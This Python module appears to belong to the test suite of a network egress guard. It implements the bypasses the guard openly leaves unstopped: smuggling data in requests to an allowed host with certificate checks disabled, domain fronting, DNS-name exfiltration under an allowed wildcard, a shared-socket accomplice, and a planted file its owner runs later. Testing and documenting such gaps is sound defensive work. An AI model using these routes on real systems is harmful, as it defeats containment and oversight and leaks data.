"""What the guard does not claim to stop. Shown with the rest, so that nobody believes that it does."""

from __future__ import annotations

import socket
import ssl
from contextlib import closing

from .base import Judge, Target, attack, proxy
from .wire import connect


def _inside(name: str, data: bytes) -> str:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with closing(socket.create_connection(proxy(), 2)) as end:
        end.sendall(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        end.recv(4096)
        with context.wrap_socket(end, server_hostname=name) as tls:
            tls.sendall(data)
            return repr(tls.recv(100))


@attack(Judge.SMUGGLED, "data in a request to an allowed host", residual=True)
def allowed(target: Target) -> str:
    return _inside(target.world.vendor, f"GET /{target.nonce} HTTP/1.1\r\nHost: {target.world.vendor}\r\n\r\n".encode())


@attack(Judge.SMUGGLED, "domain fronting: another Host inside the tunnel to an allowed one", residual=True)
def fronting(target: Target) -> str:
    return _inside(target.world.vendor, f"GET /{target.nonce} HTTP/1.1\r\nHost: {target.name}\r\n\r\n".encode())


@attack(Judge.QUESTION, "data in names below an allowed wildcard, looked up by the gateway", residual=True)
def wildcard(target: Target) -> str:
    return connect(f"{target.nonce}.{target.world.wild}:443")


@attack(Judge.ACCEPTED, "a listener in the shared workspace, opened by an accomplice outside", residual=True)
def accomplice(target: Target) -> str:
    with closing(socket.socket(socket.AF_UNIX)) as end:
        end.connect(target.world.sockets["workspace"])
        end.send(target.nonce.encode())
    return "connected"


@attack(
    Judge.WRITTEN,
    "a notebook or module in the workspace that its owner runs later",
    residual=True,
    path="{workspace}/later.py",
)
def later(target: Target) -> str:
    with open(target.path, "w", encoding="utf-8") as file:
        file.write(f"# {target.nonce}\n")
    return "written"
